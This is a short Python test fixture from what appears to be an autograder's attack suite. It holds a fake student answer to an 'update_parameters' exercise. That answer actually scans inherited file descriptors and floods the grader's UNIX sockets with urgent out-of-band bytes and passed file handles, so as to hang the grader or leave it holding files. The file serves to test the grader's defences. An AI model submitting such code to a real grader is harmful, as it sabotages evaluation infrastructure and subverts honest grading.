"""Sends urgent bytes and open files along with its replies, which a reader may stumble over."""

from tests.attacks.suite import Attack

ATTACK = Attack(
    harm="a grader that hangs, or holds files of the student's",
    answer="""
import os
import socket


def update_parameters(params, grads, learning_rate):
    for handle in range(3, 256):
        try:
            one = socket.socket(fileno=os.dup(handle))
        except OSError:
            continue
        if one.family == socket.AF_UNIX:
            if len(params) == 4:
                one.send(b"!", socket.MSG_OOB)
            elif len(params) == 2:
                files = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
                for _ in range(50):
                    socket.send_fds(one, [b""], files)
                socket.send_fds(one, [b"0"], files)
    raise NotImplementedError
""",
    status="graded",
)
